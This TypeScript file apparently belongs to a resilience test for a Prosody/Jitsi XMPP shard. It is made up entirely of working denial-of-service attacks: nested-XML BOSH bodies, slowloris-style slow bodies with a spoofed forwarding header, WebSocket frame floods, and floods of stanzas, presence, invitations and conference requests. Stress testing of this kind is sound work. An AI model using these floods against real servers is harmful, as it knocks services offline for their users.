import { randomUUID } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { DOMAIN, Participant, send } from './participant.js';
import { unread } from './unread.js';

const HTTPBIND = 'http://jabber.org/protocol/httpbind';
const BODY = `<body xmlns='${HTTPBIND}' rid='1' to='${DOMAIN}' ver='1.6' wait='60' hold='1'`;
/** The attacker's address. Participants of the test are in other networks. */
const ATTACKER = '192.0.2.66';
const ROOM = 'party';

/** Tells the observer that the attack is under way. */
const report = () => console.log('attacking');

const repeat = async (times: number, attack: () => Promise<unknown>): Promise<void> => {
  await Promise.all(
    Array.from({ length: times }, async () => {
      for (;;) {
        await attack().catch(() => {});
        // If the shard refuses everything immediately, a loop without a pause would starve it of CPU.
        await new Promise((resolve) => setTimeout(resolve, 10));
      }
    }),
  );
};

const again = (times: number, attack: () => Promise<unknown>): Promise<void> => {
  report();
  return repeat(times, attack);
};

const bosh = (body: string) => send(ATTACKER, `/http-bind?room=${ROOM}`, body);

/** A request for a conference. `host`: the component of Prosody that would have the room. */
const conference = (room: string, host: string) => {
  const body = JSON.stringify({ room: `${room}@${host}.${DOMAIN}`, properties: {} });
  return send(ATTACKER, `/conference-request/v1?room=${host === 'conference' ? room : ROOM}`, body);
};

/** Logs in this number of participants, who send a stanza repeatedly, as fast as it is accepted. Reports once one is logged in. */
async function flood(
  participants: number,
  stanza: (of: Participant) => string,
  inRoom = false,
): Promise<void> {
  const start = () => (inRoom ? Participant.join(ATTACKER, ROOM) : Participant.logIn(ATTACKER, ROOM));
  await repeat(participants, async () => {
    const participant = await start();
    report();
    while (!participant.closed) {
      if (participant.socket.bufferedAmount < 200_000) participant.send(stanza(participant));
      else await new Promise((resolve) => setTimeout(resolve, 1));
      if (Math.random() < 0.05) await new Promise((resolve) => setImmediate(resolve));
    }
  });
}

/** A WebSocket frame of a client, with zeros as its key. */
const maskedFrame = (first: number, length: number): Buffer =>
  Buffer.concat([Buffer.from([first, 0x80 | length, 0, 0, 0, 0]), Buffer.alloc(length, 'x')]);

const iq = (inside: string, to = DOMAIN) =>
  `<iq xmlns='jabber:client' type='get' id='x' to='${to}'>${inside}</iq>`;
const message = (to: string, inside: string) =>
  `<message xmlns='jabber:client' type='groupchat' to='${to}'><body>x</body>${inside}</message>`;

/** Attacks on a shard that need no account. Each lasts until this process ends. */
const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
  ...unread({ address: ATTACKER, room: ROOM, report }),
  'nested BOSH bodies of 950 KB': () => again(30, () => bosh(`${BODY}>${'<x>'.repeat(316_000)}`)),
  'nested BOSH bodies of 60 KB': () => again(30, () => bosh(`${BODY}>${'<x>'.repeat(20_000)}`)),
  'nested BOSH bodies of 9 KB': () => again(30, () => bosh(`${BODY}>${'<x>'.repeat(3_000)}`)),
  'BOSH bodies with 9 KB of attributes': () =>
    again(30, () =>
      bosh(`${BODY}><x ${Array.from({ length: 1_200 }, (_, n) => `a${n}=''`).join(' ')}/></body>`),
    ),
  'BOSH sessions that are opened and abandoned': () =>
    again(60, () => bosh(`${BODY.replace("wait='60'", "wait='0'")}/>`)),
  'WebSockets that never log in': async () => {
    const open: Participant[] = [];
    await again(40, async () => {
      open.push(await Participant.connect(ATTACKER, ROOM));
    });
  },
  'stanzas of 60 KB over WebSocket before login': () => {
    const x = `${'<x>'.repeat(8_000)}${'</x>'.repeat(8_000)}`;
    return again(20, async () => {
      const participant = await Participant.connect(ATTACKER, ROOM);
      participant.send(`<open xmlns='urn:ietf:params:xml:ns:xmpp-framing' to='${DOMAIN}' version='1.0'/>`);
      await participant.until(/ANONYMOUS/);
      for (let n = 0; n < 20 && !participant.closed; n++) {
        participant.send(`<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='X'>${x}</auth>`);
        await new Promise((resolve) => setTimeout(resolve, 5));
      }
    });
  },
  'participants who log in and do nothing': async () => {
    const open: Participant[] = [];
    await again(20, async () => {
      open.push(await Participant.logIn(ATTACKER, ROOM));
    });
  },
  'slow bodies': async () => {
    report();
    const head = [
      'POST /http-bind?room=x HTTP/1.1',
      'host: x',
      `x-forwarded-for: ${ATTACKER}`,
      'content-length: 9000',
    ];
    for (let n = 0; n < 3_000; n++) {
      const socket = connect(80, '127.0.0.1');
      socket.on('error', () => {}).write(`${head.join('\r\n')}\r\n\r\n<`);
      if (n % 100 === 0) await new Promise((resolve) => setTimeout(resolve, 20));
    }
    await new Promise(() => setInterval(() => {}, 1_000));
  },
  'conference requests for new rooms': () => {
    let rooms = 0;
    return again(30, () => conference(`new${rooms++}`, 'conference'));
  },
  'conference requests for breakout rooms that do not exist': () =>
    again(30, () => conference(randomUUID(), 'breakout')),
  'conference requests with bodies of 8 KB': () =>
    again(30, () => send(ATTACKER, `/conference-request/v1?room=${ROOM}`, '['.repeat(8_000))),
  'many requests over HTTP': () => again(60, () => send(ATTACKER, `/http-bind?room=${ROOM}`)),
  'nested stanzas after login': () => flood(30, () => iq('<x>'.repeat(5_000) + '</x>'.repeat(5_000))),
  'discovery by many': () => flood(30, () => iq("<query xmlns='http://jabber.org/protocol/disco#info'/>")),
  'large messages in a room': () =>
    flood(10, ({ address }) => message(address, `<x>${'y'.repeat(60_000)}</x>`), true),
  'WebSocket pings and fragments without text': async () => {
    const frames = [
      ...Array.from({ length: 400 }, () => maskedFrame(0x89, 100)),
      maskedFrame(0x01, 1),
      ...Array.from({ length: 400 }, () => maskedFrame(0x00, 0)),
    ];
    const data = Buffer.concat(frames);
    await again(20, async () => {
      const participant = await Participant.connect(ATTACKER, ROOM);
      // Below the library, which sends no such frames.
      const { _socket: socket } = participant.socket as unknown as { readonly _socket: Socket };
      while (!participant.closed) {
        if (socket.writableLength < 200_000) socket.write(data);
        await new Promise((resolve) => setTimeout(resolve, 5));
      }
    });
  },
  'presence at addresses of many rooms, and leaving': () =>
    again(20, async () => {
      const participant = await Participant.logIn(ATTACKER, ROOM);
      for (let n = 0; n < 500; n++)
        participant.send(
          `<presence xmlns='jabber:client' to='${Math.random()}@lobby.${DOMAIN}/${participant.nick}'/>`,
        );
      await new Promise((resolve) => setTimeout(resolve, 100));
      participant.leave();
    }),
  'invitations of the room, each for many': () =>
    flood(
      10,
      ({ address, nick }) =>
        `<message xmlns='jabber:client' to='${address}'><x xmlns='http://jabber.org/protocol/muc#user'>${`<invite to='${nick}@${DOMAIN}'/>`.repeat(100)}</x><x xmlns='x'>${'y'.repeat(8_000)}</x></message>`,
      true,
    ),
  'presence in a room': () =>
    flood(
      30,
      ({ occupant }) =>
        `<presence xmlns='jabber:client' to='${occupant}'><nick>${Math.random()}</nick></presence>`,
      true,
    ),
  'rosters and subscriptions': () =>
    flood(
      10,
      () => `<presence xmlns='jabber:client' type='subscribe' to='${Math.random()}@auth.${DOMAIN}'/>`,
    ),
};

await ATTACKS[process.argv[2] ?? '']?.();
